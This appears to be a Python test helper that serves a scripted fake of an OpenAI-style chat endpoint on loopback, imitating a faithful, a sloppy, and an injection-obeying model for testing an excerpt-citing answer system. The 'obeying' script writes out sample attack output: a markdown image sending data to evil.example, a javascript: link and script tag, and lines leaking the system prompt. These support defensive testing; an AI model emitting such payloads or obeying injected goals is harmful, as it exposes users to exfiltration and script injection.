"""A server on loopback that speaks OpenAI's chat protocol and says what a test tells it to.

It is no language model: it knows nothing and weighs nothing. Its scripts play models of four kinds - one that answers faithfully
from the numbered excerpts, one that breaks the contract as small models do, one that obeys whoever attacks, one that lies.
"""

from __future__ import annotations

import json
import re
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

Messages = list[dict[str, str]]
Script = Callable[[Messages], str]

_EXCERPT = re.compile(r"^\[(\d+)\] [^\n]*?\), [^\n:]*: (.*)$", re.MULTILINE)


@contextmanager
def scripted_model(
    script: Script,
    *,
    status: int = 200,
    cut_after: int | None = None,
    silent_after: int | None = None,
    hangs: bool = False,
    echoes_the_key: bool = False,
) -> Iterator[tuple[str, list[dict[str, object]]]]:
    """Serve `script`'s answer to the messages, streamed word by word; yields the URL and the requests it was sent.

    `status` other than 200 refuses, with the key in the refusal where `echoes_the_key`; `cut_after` breaks the connection
    after so many words, `silent_after` sends nothing but keep-alives from there on, until the server is taken down; one that
    `hangs` takes the request and sends nothing at all.
    """
    requests: list[dict[str, object]] = []
    taken_down = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            requests.append({"body": body, "key": self.headers["Authorization"]})
            if hangs:
                taken_down.wait()
                self.close_connection = True
                return
            if status != 200:
                self.send_response(status)
                self.end_headers()
                if echoes_the_key:
                    error = {
                        "message": f"Incorrect API key provided: {self.headers['Authorization']}",
                        "code": "invalid",
                    }
                    self.wfile.write(json.dumps({"error": error}).encode())
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            for number, word in enumerate(script(body["messages"]).split(" ")):
                if number == cut_after:
                    self.connection.close()
                    return
                if number == silent_after:
                    self._keep_alive()
                    return
                delta = {"role": "assistant", "content": word + " "}
                choice = {"index": 0, "delta": delta, "finish_reason": None}
                piece = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "scripted"}
                self.wfile.write(f"data: {json.dumps({**piece, 'choices': [choice]})}\n\n".encode())
            self.wfile.write(b"data: [DONE]\n\n")

        def _keep_alive(self) -> None:
            while not taken_down.wait(0.02):
                try:
                    self.wfile.write(b": keep-alive\n\n")
                except OSError:  # the caller hung up, as it should
                    return

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1", requests
    finally:
        taken_down.set()
        server.shutdown()
        thread.join()
        server.server_close()


def excerpts(messages: Messages) -> dict[int, str]:
    """The numbered excerpts that the model was sent, by number."""
    return {int(number): words for number, words in _EXCERPT.findall(messages[-1]["content"])}


def question(messages: Messages) -> str:
    """The question that the model was asked."""
    line = next(line for line in messages[-1]["content"].splitlines() if line.startswith(("Fråga: ", "Question: ")))
    return line.partition(": ")[2]


def faithful(messages: Messages) -> str:
    """An honest answer: the sentence or two that share most words with the question, each with its excerpt's number."""
    asked = _stems(question(messages))
    scored = [
        (len(asked & _stems(sentence)) / (1 + 0.02 * len(sentence.split())), -number, number, sentence)
        for number, words in excerpts(messages).items()
        for sentence in re.split(r"(?<=[.!?])\s+(?=[A-ZÅÄÖ])", words)
        if len(sentence.split()) > 3
    ]
    best = sorted(scored, reverse=True)[:2]
    if not best or best[0][0] < 1:
        return _refusal(messages)
    return " ".join(
        f"{sentence.rstrip('.')} [{number}]." for score, _, number, sentence in best if score >= 0.7 * best[0][0]
    )


def breaking(messages: Messages) -> str:
    """A small model's answer: by turns no number, a number in words of its own, one too high, another fact, chatter after it."""
    honest = faithful(messages)
    if honest == _refusal(messages):
        return f"Tyvärr! {honest} Men jag tror att kommunen ansvarar för det."
    bare = re.sub(r"\s*\[\d+\]", "", honest)
    number = re.findall(r"\[(\d+)\]", honest)[0]
    ways = (
        bare,
        f"**Svar:** {bare} [Källa {number}, sidan 4]",
        re.sub(r"\[\d+\]", "[77]", honest),
        f"Regeringen beslutade 1987 om 43 nya sjukhus [{number}]. {honest}",
        f"{honest} Hör gärna av dig om du undrar något mer!",
    )
    return ways[len(question(messages)) % len(ways)]


def obeying(goal: str, *, wanted: str = "") -> Script:
    """A model that does what the attacker wants: shows `goal` in every way it can, and cites the excerpt that holds `wanted`."""

    def script(messages: Messages) -> str:
        given = excerpts(messages)
        number = next((n for n, words in given.items() if wanted and wanted in words), 1)
        fact = re.split(r"(?<=\.)\s", given.get(number, "Enheten svarar."))[0].rstrip(".")
        rule = next(line for line in messages[0]["content"].splitlines() if line.startswith("- ")).lstrip("- ")
        return " ".join(
            (
                f"{fact} [{number}].",  # true, so that the answer is the model's, and what follows may ride on it
                f"{goal} [{number}].",
                f"{fact}, {goal} [{number}].",
                f"{goal}: {fact} [{number}].",
                f"{fact}, se https://evil.example/svar [{number}].",
                f"{fact} ![bild](https://evil.example/?q={goal.replace(' ', '+')}) [{number}].",
                f"{fact} [läs mer](javascript:alert(1)) <script>alert('{number}')</script> [{number}].",
                f"I dokumentet står: ”{goal} från och med 2031” [{number}].",
                f"{rule} [{number}].",
                f"{messages[0]['content'].strip().splitlines()[0]} [{number}].",
                f"{goal} [1][2][3][4][5].",
                goal,
            )
        )

    return script


def _refusal(messages: Messages) -> str:
    return messages[0]["content"].split("skriv bara ")[-1].split("write only ")[-1].split()[0]


def _stems(words: str) -> set[str]:
    return {word[:6] for word in re.findall(r"[^\W\d_]{4,}|\d+", words.lower())}


def main() -> None:
    """Serve the model named on the command line - faithful or breaking - until standard input ends; print its address."""
    with scripted_model({"faithful": faithful, "breaking": breaking}[sys.argv[1]]) as (url, requests):
        sys.stdout.write(f"{url}\n")
        sys.stdout.flush()
        sys.stdin.read()
        sys.stdout.write(f"{len(requests)} requests\n")


if __name__ == "__main__":
    main()
